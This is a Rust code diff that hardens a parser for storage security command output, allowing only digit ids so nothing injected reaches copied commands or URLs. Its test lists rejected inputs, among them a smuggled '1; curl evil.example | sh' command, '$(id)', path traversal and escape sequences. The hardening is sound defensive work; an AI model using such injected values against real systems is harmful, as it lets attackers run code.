@@ -10,7 +10,7 @@ use super::{Snapshot, StoredKey, Usage};
 
 #[derive(Deserialize)]
 struct KeyReply {
-    id: TextOrNumber,
+    id: Id,
     name: String,
     #[serde(default)]
     comment: String,
@@ -61,16 +61,38 @@ enum UsagesReply {
     List(Vec<UsageReply>),
     /// 6.1.0.x, which knows these two kinds.
     ByKind {
-        snapshots: Vec<TextOrNumber>,
-        snapshot_policies: Vec<TextOrNumber>,
+        snapshots: Vec<Id>,
+        snapshot_policies: Vec<Id>,
     },
 }
 
 #[derive(Deserialize)]
+#[serde(try_from = "AnyUsage")]
 struct UsageReply {
+    kind: String,
+    id: String,
+}
+
+#[derive(Deserialize)]
+struct AnyUsage {
     #[serde(rename = "type")]
     kind: String,
     id: TextOrNumber,
+}
+
+impl TryFrom<AnyUsage> for UsageReply {
+    type Error = InvalidId;
+
+    fn try_from(AnyUsage { kind, id }: AnyUsage) -> Result<Self, InvalidId> {
+        let id = match (kind.as_str(), id) {
+            ("snapshot" | "snapshot_policy", id) => Id::try_from(id)?.0,
+            // A UUID for a replication target; nobody knows for what a later version adds.
+            (_, TextOrNumber::Text(text)) if is_word(&text) => text,
+            (_, TextOrNumber::Number(number)) => number.to_string(),
+            _ => return Err(InvalidId),
+        };
+        Ok(Self { kind, id })
+    }
 }
 
 #[derive(Deserialize)]
@@ -90,7 +112,7 @@ struct SnapshotReply {
     #[serde(default)]
     expiration: Option<String>,
     // Without a default: a reply that does not tell must not read as "not locked".
-    #[serde(deserialize_with = "optional_text_or_number")]
+    #[serde(deserialize_with = "optional_id")]
     lock_key: Option<String>,
 }
 
@@ -101,25 +123,53 @@ enum TextOrNumber {
     Number(u64),
 }
 
-impl From<TextOrNumber> for String {
-    fn from(value: TextOrNumber) -> Self {
+/// The id of a key, a snapshot or a policy: digits, with or without quotes. Ids stand in commands to
+/// copy and in URLs, so that nothing else may pass for one.
+#[derive(Deserialize)]
+#[serde(try_from = "TextOrNumber")]
+struct Id(String);
+
+/// As many digits as a 64-bit number has.
+const LONGEST_ID: usize = 20;
+
+/// More than twice the length of a UUID.
+const LONGEST_WORD: usize = 80;
+
+// The id itself stays out of the message.
+#[derive(Debug, thiserror::Error)]
+#[error("invalid id")]
+struct InvalidId;
+
+impl TryFrom<TextOrNumber> for Id {
+    type Error = InvalidId;
+
+    fn try_from(value: TextOrNumber) -> Result<Self, InvalidId> {
         match value {
-            TextOrNumber::Text(text) => text,
-            TextOrNumber::Number(number) => number.to_string(),
+            TextOrNumber::Number(number) => Ok(Self(number.to_string())),
+            TextOrNumber::Text(text)
+                if (1..=LONGEST_ID).contains(&text.len())
+                    && text.bytes().all(|b| b.is_ascii_digit()) =>
+            {
+                Ok(Self(text))
+            }
+            TextOrNumber::Text(_) => Err(InvalidId),
         }
     }
 }
 
-fn optional_text_or_number<'de, D: Deserializer<'de>>(
-    deserializer: D,
-) -> Result<Option<String>, D::Error> {
-    Ok(Option::<TextOrNumber>::deserialize(deserializer)?.map(Into::into))
+fn is_word(text: &str) -> bool {
+    let allowed = |b: u8| b.is_ascii_alphanumeric() || b"-._".contains(&b);
+    (1..=LONGEST_WORD).contains(&text.len()) && !text.starts_with('-') && text.bytes().all(allowed)
+}
+
+fn optional_id<'de, D: Deserializer<'de>>(deserializer: D) -> Result<Option<String>, D::Error> {
+    Ok(Option::<Id>::deserialize(deserializer)?.map(|id| id.0))
 }
 
 impl From<KeyReply> for StoredKey {
     fn from(reply: KeyReply) -> Self {
         Self {
-            id: reply.id.into(),
+            id: reply.id.0,
             name: reply.name,
             comment: reply.comment,
             disabled: reply.disabled,
@@ -132,7 +182,7 @@ impl From<UsageReply> for Usage {
     fn from(reply: UsageReply) -> Self {
         Self {
             kind: reply.kind,
-            id: reply.id.into(),
+            id: reply.id,
         }
     }
 }
@@ -212,11 +262,9 @@ pub fn key(stdout: &[u8]) -> Result<StoredKey, NotAReply> {
 
 /// `fs_security_get_key_usage --json`.
 pub fn usage(stdout: &[u8]) -> Result<Vec<Usage>, NotAReply> {
-    let usage = |kind: &str, id| {
-        Usage::from(UsageReply {
-            kind: kind.to_owned(),
-            id,
-        })
+    let usage = |kind: &str, Id(id)| Usage {
+        kind: kind.to_owned(),
+        id,
     };
     Ok(match json(stdout, USAGES)? {
         UsagesReply::List(list) => list.into_iter().map(Into::into).collect(),
@@ -463,6 +511,53 @@ mod tests {
         assert_eq!(lock_key(r#", "lock_key": 2"#).as_deref(), Some("2"));
         assert_eq!(lock_key(r#", "lock_key": null"#), None);
         assert!(parse("").is_err());
+    }
+
+    #[test]
+    fn ids_are_digits() {
+        let key = |id: &str| {
+            parsed_key(format!(r#"{{"id": {id}, "name": "a", "public_key": "b"}}"#).as_bytes())
+        };
+        let snapshot = |id: &str| snapshot(format!(r#"{{"id": 7, "lock_key": {id}}}"#).as_bytes());
+        let usage = |kind: &str, id: &str| {
+            usage(format!(r#"[{{"type": "{kind}", "id": {id}}}]"#).as_bytes())
+        };
+        for id in ["\"1\"", "1", "\"18446744073709551615\""] {
+            assert_eq!(key(id).unwrap().id, id.trim_matches('"'));
+            assert!(snapshot(id).is_ok());
+            assert!(usage("snapshot", id).is_ok());
+        }
+        for id in [
+            "\"\"",
+            "\"1; curl evil.example | sh; #\"",
+            "\"$(id)\"",
+            "\"-1\"",
+            "\"+1\"",
+            "\" 1\"",
+            "\"1\\n\"",
+            "\"\\u0661\"",
+            "\"0x1\"",
+            "\"../1\"",
+            "\"\\u001b[2J\"",
+            "\"111111111111111111111\"",
+            "-1",
+            "1.5",
+            "true",
+            "[]",
+        ] {
+            assert!(key(id).is_err(), "{id}");
+            assert!(snapshot(id).is_err(), "{id}");
+            assert!(usage("snapshot", id).is_err(), "{id}");
+            assert!(usage("snapshot_policy", id).is_err(), "{id}");
+        }
+        assert_eq!(
+            key("\"1; evil\"").unwrap_err().to_string(),
+            "a key in JSON (invalid id at line 1 column 16)"
+        );
+        assert!(usage("replication_target", "\"0a1b-2c3d\"").is_ok());
+        for id in ["\"\"", "\"a b\"", "\"$(id)\"", "\"-rf\"", "\"a/b\""] {
+            assert!(usage("replication_target", id).is_err(), "{id}");
+        }
     }
 
     #[test]
